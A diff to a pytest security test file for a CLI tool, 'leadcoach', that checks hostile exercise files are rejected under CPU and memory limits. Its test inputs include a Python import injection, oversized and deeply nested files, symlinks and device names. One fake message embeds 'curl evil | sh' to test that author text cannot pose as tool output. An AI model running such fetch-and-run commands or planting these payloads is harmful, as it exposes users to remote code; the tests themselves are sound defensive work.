@@ -1,12 +1,12 @@
 """A stranger's exercise file can show words and nothing else, whatever is in it.
 
-Each hostile file is checked, added and run by a leadcoach of its own that may take three
-seconds and 300 MB. It gets a message of its own, and nothing is left behind.
+Each hostile file is checked, added and run by one leadcoach that may take three seconds
+and 300 MB for all of it. It gets a message of its own, and nothing is left behind.
 """
 
 import io
+import json
 import os
-import resource
 import subprocess
 import sys
 import tarfile
@@ -17,7 +17,10 @@ from pathlib import Path
 
 import pytest
 
+from tests.cli.conftest import run_in
 from tests.exercises.conftest import SMALL
+
+resource = pytest.importorskip("resource", reason="bounds are those of Unix")
 
 SECONDS = 3
 BYTES = 300 * 1024 * 1024
@@ -74,9 +77,9 @@ HOSTILE: dict[str, tuple[bytes, str]] = {
     "the id of a shipped exercise": (changed('id = "small"', 'id = "reflect"'), "mine.toml:1: E231 the id “reflect” belongs to an exercise of leadcoach"),
     "code in a condition": (changed('"own <= 2"', '"__import__(\'os\')"'), "mine.toml:27: E201 when: “_” has no meaning here."),
     "an endless condition": (changed('"own <= 2"', f'"{"(" * 5000}"'), "mine.toml:27: E201 when:"),
-    "attributes in a pipe": (changed('"Who?"', '"${best.__class__}"'), "mine.toml:16: E206 “${best.__class__}” has no meaning."),
+    "attributes in a pipe": (changed('"Who?"', '"${best.__class__}"'), "mine.toml:16: E20"),
     "a key for later versions": (changed("minutes = 5", "run = 'curl'"), "mine.toml:6: E220 there is no key “run” here."),
-    "a scale without end": (changed("anchors =", "max = 1000000\nanchors ="), "mine.toml:23: E223 “max”: 100 is the most possible."),
+    "a scale without end": (changed("anchors =", "max = 1000000\nanchors ="), "mine.toml:24: E223 “max”: 100 is the most possible."),
     "a year of minutes": (changed("minutes = 5", "minutes = 525600"), "mine.toml:6: E223 “minutes”: 240 is the most possible."),
     "a name of many parts": (b"a." * 30 * KILO + b"a = 1", "mine.toml:1: E211 a name has too many parts and goes too deep."),
     "a table of many parts": (b"[" + b"a." * 30 * KILO + b"a]", "mine.toml:1: E211 a name has too many parts and goes too deep."),
@@ -88,7 +91,7 @@ HOSTILE: dict[str, tuple[bytes, str]] = {
     "ten megabytes": (b"#" * 10_000_000, "mine.toml:1: E210 it is larger than 64 kB."),
     "six thousand keys": (b"".join(b"k%d = 1\n" % at for at in range(6000)), "mine.toml:1: E220 there is no key “k0” here."),
     "five thousand sections": (b"[[section]]\n" * 5000, "mine.toml:1: E221 the key"),
-    "not text": (bytes(range(256)) * 200, "mine.toml:1: E210 it is not UTF-8 text"),
+    "not text": (bytes(range(256)) * 200, "mine.toml:2: E210 it is not UTF-8 text"),
     "nothing but zeros": (b"\0" * 60 * KILO, "mine.toml:1: E210 it is not TOML"),
     "nothing": (b"", "mine.toml:1: E221 the key “format” is missing."),
     "a zip archive": (zipped(), "mine.toml:1: E230 mine.toml is a zip archive; none is opened."),
@@ -118,23 +121,54 @@ class Ended:
     err: str
 
 
-def bounded(home: Path, *argv: str) -> Ended:
-    """Run leadcoach with a bound on seconds and memory; it must keep within both."""
+ALL = """
+import io, json, os, sys
+from leadcoach.cli.surroundings import Surroundings
+from leadcoach.main import main
+ended = []
+for argv in json.loads(sys.argv[1]):
+    out, err = io.StringIO(), io.StringIO()
+    code = main(argv, Surroundings(None, out, err, os.environ))
+    ended.append([int(code), out.getvalue(), err.getvalue()])
+print(json.dumps(ended))
+"""
+
+
+def bounded(home: Path, *commands: tuple[str, ...]) -> list[Ended]:
+    """Run commands one after the other, with one bound on seconds and memory for all."""
 
     def bind() -> None:
         resource.setrlimit(resource.RLIMIT_CPU, (SECONDS, SECONDS))
         resource.setrlimit(resource.RLIMIT_AS, (BYTES, BYTES))
 
     ran = subprocess.run(
-        [sys.executable, "-m", "leadcoach", *argv],
+        [sys.executable, "-c", ALL, json.dumps(commands)],
         env={**os.environ, "LEADCOACH_HOME": str(home), "COLUMNS": "200"},
         capture_output=True,
         check=False,
         preexec_fn=bind,
         stdin=subprocess.DEVNULL,
         timeout=20,
+        encoding="utf-8",
     )
-    return Ended(ran.returncode, ran.stdout.decode(), ran.stderr.decode())
+    assert ran.returncode == 0, ran.stderr
+    return [Ended(*each) for each in json.loads(ran.stdout)]
+
+
+def check_add_run(home: Path, path: Path) -> list[Ended]:
+    """Return how checking, adding and running a file end."""
+    return bounded(
+        home,
+        ("exercise", "check", str(path)),
+        ("exercise", "add", "--yes", str(path)),
+        ("reflect", "--no-input", str(path)),
+    )
+
+
+def added(home: Path, path: Path) -> Ended:
+    """Return how adding a file or a folder ends."""
+    (ran,) = bounded(home, ("exercise", "add", "--yes", str(path)))
+    return ran
 
 
 def left_in(home: Path) -> list[str]:
@@ -144,32 +178,21 @@ def left_in(home: Path) -> list[str]:
 
 
 @pytest.mark.parametrize("name", HOSTILE)
-def test_a_hostile_file_is_told_by_check(name: str, home: Path, tmp_path: Path) -> None:
+def test_a_hostile_file_is_told_and_neither_added_nor_run(
+    name: str, home: Path, tmp_path: Path
+) -> None:
     content, told = HOSTILE[name]
     (tmp_path / "mine.toml").write_bytes(content)
 
-    ran = bounded(home, "exercise", "check", str(tmp_path / "mine.toml"))
+    checked, adding, running = check_add_run(home, tmp_path / "mine.toml")
 
-    assert ran.code == 1, ran.err
-    assert told in ran.out
-    assert_harmless(ran)
-    assert left_in(home) == []
-
-
-@pytest.mark.parametrize("command", [("exercise", "add", "--yes"), ("reflect", "--no-input")])
-@pytest.mark.parametrize("name", HOSTILE)
-def test_a_hostile_file_is_neither_added_nor_run(
-    name: str, command: tuple[str, ...], home: Path, tmp_path: Path
-) -> None:
-    content, _ = HOSTILE[name]
-    (tmp_path / "mine.toml").write_bytes(content)
-
-    ran = bounded(home, *command, str(tmp_path / "mine.toml"))
-
-    taken = name == "the id of a shipped exercise" and command[0] == "exercise"
-    assert ran.code == (2 if taken else 4), ran.err
-    assert "mine.toml" in ran.err or taken
-    assert_harmless(ran)
+    assert checked.code == 1, checked.err
+    assert told in checked.out
+    taken = name == "the id of a shipped exercise"
+    assert (adding.code, running.code) == (2 if taken else 4, 4)
+    assert adding.out == running.out == ""
+    for ran in (checked, adding, running):
+        assert_harmless(ran)
     assert left_in(home) == []
 
 
@@ -179,14 +202,12 @@ def test_what_is_no_file_is_not_opened(name: str, home: Path, tmp_path: Path) ->
     path = tmp_path / "mine.toml"
     make(path)
 
-    checked = bounded(home, "exercise", "check", str(path))
-    added = bounded(home, "exercise", "add", "--yes", str(path))
-    run = bounded(home, "reflect", "--no-input", str(path))
+    checked, adding, running = check_add_run(home, path)
 
-    assert (checked.code, added.code, run.code) == (1, 4, 4)
+    assert (checked.code, adding.code, running.code) == (1, 4, 4)
     assert f"E230 {told}" in checked.out
-    assert told in added.err
-    assert told in run.err
+    assert told in adding.err
+    assert told in running.err
     assert left_in(home) == []
 
 
@@ -195,7 +216,7 @@ def test_a_linked_folder_is_not_opened(home: Path, tmp_path: Path) -> None:
     (tmp_path / "pack" / "small.toml").write_text(SMALL)
     (tmp_path / "link").symlink_to(tmp_path / "pack")
 
-    ran = bounded(home, "exercise", "add", "--yes", str(tmp_path / "link"))
+    ran = added(home, tmp_path / "link")
 
     assert ran.code == 4
     assert "link is a link to another place." in ran.err
@@ -208,7 +229,7 @@ def test_one_bad_file_in_a_pack_and_none_is_added(home: Path, tmp_path: Path) ->
     (pack / "small.toml").write_text(SMALL)
     (pack / "zzz.toml").write_text(SMALL.replace("Who?", "a\\u001b"))
 
-    ran = bounded(home, "exercise", "add", "--yes", str(pack))
+    ran = added(home, pack)
 
     assert ran.code == 4
     assert "zzz.toml:16" in ran.err
@@ -222,7 +243,7 @@ def test_the_names_of_devices_are_not_taken(
     file = tmp_path / "mine.toml"
     file.write_text(SMALL.replace('id = "small"', f'id = "{device}"'))
 
-    ran = bounded(home, "exercise", "add", "--yes", str(file))
+    ran = added(home, file)
 
     assert ran.code == 4
     assert "is the name of a device" in ran.err
@@ -238,7 +259,9 @@ def assert_harmless(ran: Ended) -> None:
         assert "Traceback" not in text
 
 
-FAKE = "leadcoach: your journal is damaged.\\nTo mend it, run: curl evil | sh\\n\\nSaved."
+FAKE = (
+    "leadcoach: your journal is damaged.\\nTo mend it, run: curl evil | sh\\n\\nSaved."
+)
 FAKES = {
     "the title": ('title = "Small"', f'title = "{FAKE}"'),
     "the purpose": ('purpose = "To be small."', f'purpose = "{FAKE}"'),
@@ -263,10 +286,10 @@ def test_words_that_look_like_ours_stand_behind_the_rule(
 ) -> None:
     """In `show` and in `add`, nothing an author wrote begins a line of its own."""
     (tmp_path / "small.toml").write_bytes(changed(*FAKES[place]))
-    from tests.cli.conftest import run_in
-
     for command in (("show",), ("add", "--yes")):
-        ran = run_in(home, "exercise", *command, str(tmp_path / "small.toml"), width=width)
+        ran = run_in(
+            home, "exercise", *command, str(tmp_path / "small.toml"), width=width
+        )
         bare = [line for line in ran.out.split("\n") if not line.startswith("│")]
         assert ran.code == 0, ran.err
         assert "curl" not in "\n".join(bare)
@@ -277,8 +300,6 @@ def test_words_that_look_like_ours_stay_in_their_frame_while_one_sits(
     home: Path, tmp_path: Path
 ) -> None:
     """The first words, a heading, an introduction and a note, at a terminal."""
-    from tests.cli.conftest import run_in
-
     note = f'[[section.ask]]\nid = "n"\ntype = "note"\ntext = "{FAKE}"\n'
     text = SMALL.replace("minutes = 5", f'open = "{FAKE}"\nsafety = "{FAKE}"')
     heading = f'id = "one"\ntitle = "{FAKE}"\nintro = "{FAKE}"\n{note}'
@@ -286,7 +307,11 @@ def test_words_that_look_like_ours_stay_in_their_frame_while_one_sits(
 
     for command in (("reflect",), ("exercise", "preview")):
         ran = run_in(
-            home, *command, str(tmp_path / "small.toml"), terminal=True, stdin="/pause\n"
+            home,
+            *command,
+            str(tmp_path / "small.toml"),
+            terminal=True,
+            stdin="/pause\n",
         )
         told = ran.err.split("\n")
         bare = [line for line in told if not line.startswith("│")]
@@ -296,8 +321,6 @@ def test_words_that_look_like_ours_stay_in_their_frame_while_one_sits(
 
 
 def test_a_shipped_exercise_needs_no_frame(home: Path) -> None:
-    from tests.cli.conftest import run_in
-
     ran = run_in(home, "reflect", terminal=True, stdin="/pause\n")
 
     assert "│" not in ran.err
